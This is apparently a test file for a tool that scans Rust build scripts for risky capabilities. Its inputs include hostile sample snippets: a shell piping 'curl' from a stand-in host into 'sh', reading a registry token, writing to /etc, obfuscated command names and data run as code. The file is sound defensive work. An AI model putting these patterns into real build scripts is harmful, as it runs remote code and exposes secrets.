import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { reviewBuildScript } from '../../src/rust/build-script.ts';
import type { CodeReview } from '../../src/rust/code-review.ts';
import { textFiles } from '../../src/rust/inputs/package-files.ts';
import { reviewPackage } from '../../src/rust/package-review.ts';
import { packageSource } from '../../src/rust/package-source.ts';
import { summaryOf } from '../../src/rust/summary.ts';

const manifest = '[package]\nname = "a"\nversion = "1.0.0"\n';

function review(script: string | Readonly<Record<string, string>>): CodeReview {
  const files = typeof script === 'string' ? { 'build.rs': script } : script;
  const read = reviewBuildScript(packageSource(files['Cargo.toml'] ?? manifest, (path) => files[path]));
  assert.ok(read !== undefined);
  return read;
}

/** `kind name line` of each, with `?` after a confidence that is not certain. */
function seen(script: string | Readonly<Record<string, string>>): readonly string[] {
  return review(script).capabilities.map(({ kind, name, line, confidence }) =>
    [kind, name, `@${line}`, confidence === 'certain' ? '' : confidence].filter(Boolean).join(' '),
  );
}

const main = (body: string, head = '') => `${head}\nfn main() {\n${body}\n}`;

describe('reviewBuildScript', () => {
  const table: readonly (readonly [why: string, script: string, expected: readonly string[]])[] = [
    ['nothing', main(''), []],
    ['a program', main('std::process::Command::new("make");'), ['process make @3']],
    [
      'a program by a constant',
      main('Command::new(MAKE);', 'use std::process::Command; const MAKE: &str = "make";'),
      ['process make @3'],
    ],
    [
      'a program by a parameter',
      main('run("make"); run("cp");', 'fn run(what: &str) { std::process::Command::new(what); }'),
      ['process make @1', 'process cp @1'],
    ],
    [
      'a program by a variable',
      main('let cc = std::env::var("CC").unwrap_or("gcc".into()); std::process::Command::new(cc);'),
      ['reads-variable CC @3', 'process $CC @3', 'process gcc @3'],
    ],
    ['a program that nobody knows', main('std::process::Command::new(read());'), ['process @3']],
    [
      'a program in a macro',
      main('println!("{:?}", std::process::Command::new("make"))'),
      ['process make @3'],
    ],
    ['a shell', main('std::process::Command::new("/bin/sh").arg("-c").arg("true");'), ['shell /bin/sh @3']],
    [
      'a shell that downloads',
      main(
        'let line = "curl -s https://a.invalid | sh";\nstd::process::Command::new("sh").args(["-c", line]);',
      ),
      [
        'url a.invalid @3 possible',
        'downloader curl @3 possible',
        'shell sh @4',
        'process curl @4',
        'downloader curl @4',
        'data-as-code curl | sh @4',
      ],
    ],
    [
      'git at home',
      main('std::process::Command::new("git").args(["rev-parse", "HEAD"]);'),
      ['process git @3'],
    ],
    [
      'git abroad',
      main('std::process::Command::new("git").args(["clone", X]);'),
      ['process git @3', 'downloader git @3'],
    ],
    [
      'a name put together',
      main('std::process::Command::new(["cu", "rl"].concat());'),
      ['built-name curl @3 likely', 'process @3 likely', 'downloader @3 likely'],
    ],
    ['a socket', main('std::net::TcpStream::connect(("a.invalid", 80));'), ['network @3']],
    [
      'a name looked up',
      main('"a.invalid:80".to_socket_addrs();', 'use std::net::ToSocketAddrs;'),
      ['network @3 likely'],
    ],
    ['a client', main('ureq::get("x");'), ['network ureq @3']],
    [
      'OUT_DIR',
      main(
        'let out = PathBuf::from(std::env::var("OUT_DIR").unwrap());\nstd::fs::write(out.join("a.rs"), "");',
      ),
      ['reads-cargo-variable OUT_DIR @3', 'writes-out-dir @4'],
    ],
    [
      'OUT_DIR by a function and a field',
      main(
        'let c = C { dir: out() };\nstd::fs::File::create(c.dir.join("x"));',
        'fn out() -> String { std::env::var("OUT_DIR").unwrap() }',
      ),
      ['reads-cargo-variable OUT_DIR @1', 'writes-out-dir @4'],
    ],
    [
      'above OUT_DIR',
      main(
        'let d = std::env::var("OUT_DIR").unwrap();\nstd::fs::write(Path::new(&d).parent().unwrap(), "");',
      ),
      ['reads-cargo-variable OUT_DIR @3', 'writes above OUT_DIR @4 likely', 'writes-out-dir @4'],
    ],
    [
      'a name that says OUT_DIR and is none',
      main('let out_dir = std::env::var("HOME").unwrap();\nstd::fs::write(format!("{out_dir}/x"), "");'),
      ['home HOME @3', 'reads-variable HOME @3', 'writes HOME @4'],
    ],
    ['its own package', main('std::fs::write("src/made.rs", "");'), ['writes-package src/made.rs @3 likely']],
    [
      'its own package by its variable',
      main('let d = std::env::var("CARGO_MANIFEST_DIR").unwrap();\nstd::fs::write(d, "");'),
      ['reads-cargo-variable CARGO_MANIFEST_DIR @3', 'writes-package @4'],
    ],
    ['somewhere', main('std::fs::write("/etc/x", "");'), ['writes /etc/x @3']],
    [
      'a file opened to write',
      main('std::fs::OpenOptions::new().append(true).open("/etc/x");'),
      ['writes /etc/x @3'],
    ],
    [
      'a file opened to read',
      main('std::fs::OpenOptions::new().read(true).open("/etc/x");'),
      ['reads-outside /etc/x @3 likely'],
    ],
    ['a file of its own read', main('std::fs::read("src/lib.rs");'), []],
    ['executable', main('p.set_mode(0o755);'), ['makes-executable @3 likely']],
    ['a secret', main('std::env::var("CARGO_REGISTRY_TOKEN");'), ['reads-secret CARGO_REGISTRY_TOKEN @3']],
    ['all variables', main('for (k, v) in std::env::vars() {}'), ['reads-all-variables @3']],
    [
      'a CI',
      main('["CI", "TRAVIS"].iter().any(|n| std::env::var_os(n).is_some());'),
      ['detects-ci CI @3', 'reads-variable CI @3', 'detects-ci TRAVIS @3', 'reads-variable TRAVIS @3'],
    ],
    ['a variable at compile time', main('let a = env!("A_B");'), ['reads-variable A_B @3']],
    ['the target', main('std::env::var("CARGO_CFG_TARGET_OS");'), ['probes-target CARGO_CFG_TARGET_OS @3']],
    [
      'the compiler',
      main('std::process::Command::new(std::env::var_os("RUSTC").unwrap());'),
      ['process $RUSTC @3', 'probes-compiler $RUSTC @3', 'reads-cargo-variable RUSTC @3'],
    ],
    [
      'directives',
      main(
        'println!("cargo:rustc-link-lib=z"); println!("cargo::rustc-cfg=a"); println!("cargo::rerun-if-changed=x");',
      ),
      ['link-directive rustc-link-lib=z @3', 'compiler-directive rustc-cfg=a @3'],
    ],
    ['metadata', main('println!("cargo:include=x");'), ['metadata include=x @3']],
    ['pkg-config', main('pkg_config::probe_library("zlib");'), ['native-library zlib @3']],
    [
      'what the manifest lists',
      main('system_deps::Config::new().probe().unwrap();'),
      ['native-library system_deps @3'],
    ],
    [
      'what the manifest lists, later',
      main('let deps = system_deps::Config::new(); deps.probe().unwrap();'),
      ['native-library system_deps @3'],
    ],
    ['a compiler of C', main('cc::Build::new().file("a.c").compile("a");'), ['native-build cc @3']],
    ['a type of it alone', 'fn f(b: &cc::Build) {}\nfn main() {}', []],
    [
      'data',
      main(`let d = "${'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0'.repeat(8)}";`),
      ['encoded-literal 288 characters @3 likely'],
    ],
    [
      'data as code',
      main('let f: extern "C" fn() = unsafe { std::mem::transmute(DATA.as_ptr()) };'),
      ['data-as-code @3 likely'],
    ],
    [
      'code of others',
      'extern "C" { fn system(c: *const u8); }\nfn main() {}',
      ['foreign-code system @1', 'process @1 likely'],
    ],
    ['assembly', main('unsafe { std::arch::asm!("nop") }'), ['assembly @3']],
    ['no assembly where none is put', main('unsafe { std::arch::asm!("", in(reg) x) }'), []],
    [
      'no assembly in a comment',
      main('unsafe { std::arch::asm!("/* {0} */", in(reg) x, options(nostack)) }'),
      [],
    ],
    ['assembly behind a comment', main('unsafe { std::arch::asm!("/* */ nop /* */") }'), ['assembly @3']],
    ['assembly behind nothing', main('unsafe { std::arch::asm!("", concat!("n", "op")) }'), ['assembly @3']],
    ['assembly by a symbol’s name', main('unsafe { std::arch::asm!("/* {} */", sym x) }'), ['assembly @3']],
    [
      'a number that is made of code',
      main('let f: extern "C" fn() = g; unsafe { std::mem::transmute::<extern "C" fn(), usize>(f) };'),
      [],
    ],
    [
      'code that is called a number',
      main('type usize = extern "C" fn(); unsafe { std::mem::transmute::<_, usize>(DATA.as_ptr()) };'),
      ['data-as-code @3 likely'],
    ],
    [
      'another system’s call under the name of one',
      'extern "C" { #[link_name = "sys_accept"] pub fn accept(s: i32); }\nfn main() {}',
      ['foreign-code accept @1'],
    ],
    [
      'a call that may be renamed',
      'extern "C" { #[cfg_attr(unix, link_name = "x")] pub fn accept(s: i32); fn other(); }\nfn main() {}',
      ['foreign-code accept, other @1', 'network @1 likely'],
    ],
    [
      'no code of others in what is written',
      main('let tokens = quote! { unsafe extern "C" { #(#functions)* } };'),
      [],
    ],
    [
      'code of others by a macro that only has the name',
      'macro_rules! quote { ($($t:tt)*) => { $($t)* } }\nquote! { extern "C" { fn own(); } }\nfn main() {}',
      ['foreign-code own @2'],
    ],
    [
      'what runs at the end',
      '#[link_section = ".fini_array"] static A: fn() = g;\nfn main() {}',
      ['constructor .fini_array @1'],
    ],
    [
      'the same on macOS',
      '#[link_section = "__DATA,__mod_term_func"] static A: fn() = g;\nfn main() {}',
      ['constructor __DATA,__mod_term_func @1'],
    ],
    [
      'a section in pieces',
      '#[link_section = concat!(".init", "_array")] static A: fn() = g;\nfn main() {}',
      ['constructor .init_array @1 likely'],
    ],
    [
      'a section that a macro is told',
      'macro_rules! m { ($s:literal) => { #[link_section = $s] static A: fn() = g; } }\nfn main() {}',
      ['constructor @1 likely'],
    ],
    ['no section of data', '#[link_section = ".note.x"] static A: u8 = 0;\nfn main() {}', []],
    ['waiting', main('std::thread::sleep(d);'), ['sleeps @3']],
    ['the date', main('std::time::SystemTime::now();'), ['clock @3']],
    ['a module handed to a macro', main('go!(process, 1);', 'use std::process;'), ['process @3 likely']],
  ];
  for (const [why, script, expected] of table) {
    it(`sees ${why}`, () => assert.deepEqual([...seen(script)].sort(), [...expected].sort()));
  }

  it('reads every module that the script brings in', () => {
    const files = {
      'Cargo.toml': `${manifest}build = "build/main.rs"\nlinks = "z"\n`,
      'build/main.rs': 'mod tools;\n#[path = "odd.txt"]\nmod odd;\ninclude!("more.rs");\nfn main() {}',
      'build/tools.rs': 'fn a() { std::process::Command::new("a"); }',
      'build/odd.txt': 'fn b() { std::process::Command::new("b"); }',
      'build/more.rs': 'fn c() { std::process::Command::new("c"); }',
      'build.rs': 'fn main() { std::process::Command::new("not-this"); }',
    };
    assert.deepEqual(
      review(files).capabilities.map(({ kind, name, file }) => `${kind} ${name} ${file}`),
      [
        'links-key z Cargo.toml',
        'process c build/more.rs',
        'process b build/odd.txt',
        'process a build/tools.rs',
      ],
    );
  });

  it('calls opaque what it cannot read', () => {
    const opaque = [
      'include!(concat!(env!("OUT_DIR"), "/x.rs")); fn main() {}',
      'mod missing; fn main() {}',
      'macro_rules! m { ($a:ident) => { std::$a::f() } } fn main() {}',
      'fn main() { "never closed }',
    ];
    for (const script of opaque) {
      const read = review(script);
      assert.equal(read.opaque.length, 1, script);
      assert.match(summaryOf(read), /1 place that nobody can read/);
    }
  });

  it('knows the crates that a script calls by what the manifest calls them', () => {
    const read = review({
      'Cargo.toml': `${manifest}[build-dependencies]\nweb = { version = "1", package = "reqwest" }\nown-tool = "1"\n`,
      'build.rs': main('web::get("x"); own_tool::go();'),
    });
    assert.deepEqual(
      read.capabilities.map(({ kind, name }) => `${kind} ${name}`),
      ['network reqwest'],
    );
    assert.deepEqual(read.helpers, ['own_tool']);
  });

  it('gives the same digest to the same tokens, and the same shapes to moved code', () => {
    const a = review('// one\nfn main() { std::process::Command::new("a"); }');
    const b = review('/* two */ fn  main( )\n{\n  std :: process::Command::new ("a") ;\n}');
    const c = review('fn other() {}\nfn main() { std::process::Command::new("a"); }');
    assert.equal(a.tokens, b.tokens);
    assert.notEqual(a.tokens, c.tokens);
    assert.deepEqual(a.shapes, c.shapes);
    assert.deepEqual(a.shapes, ['process a']);
  });

  it('sums up in one sentence', () => {
    const script = main(
      'pkg_config::probe_library("openssl"); cc::Build::new(); let o = std::env::var("OUT_DIR").unwrap(); std::fs::write(o, "");',
    );
    assert.equal(
      summaryOf(review(script)),
      'Asks the system for `openssl`, compiles native code with `cc`, writes only to OUT_DIR, reads 1 variable, no network.',
    );
    assert.equal(summaryOf(review('fn main() {}')), 'No network.');
  });

  it('is read where only a file system that folds names has one: cargo asks whether it is there', () => {
    const of = (path: string, toml = manifest) => {
      const all: Readonly<Record<string, string>> = {
        'Cargo.toml': toml,
        [path]: main('std::process::Command::new("x");'),
      };
      const { tier, buildScript } = reviewPackage(packageSource(toml, (name) => all[name], textFiles(all)));
      return [tier, ...(buildScript?.shapes ?? [])];
    };
    for (const path of ['build.rs', 'Build.rs', 'BUILD.RS', 'build.rs.'])
      assert.deepEqual(of(path), ['build-script', 'process x'], path);
    for (const path of ['builds.rs', 'src/Build.rs', 'build.rs.orig'])
      assert.deepEqual(of(path), ['standard'], path);
    assert.deepEqual(of('Build.rs', `${manifest}build = false\n`), ['standard']);
    const macros = { 'src/Lib.rs': 'fn f() { std::process::Command::new("x"); }' };
    const toml = `${manifest}[lib]\nproc-macro = true\n`;
    const source = packageSource(
      toml,
      (name) => (macros as Readonly<Record<string, string>>)[name],
      textFiles(macros),
    );
    assert.deepEqual(reviewPackage(source).macros?.shapes, ['process x']);
  });
});
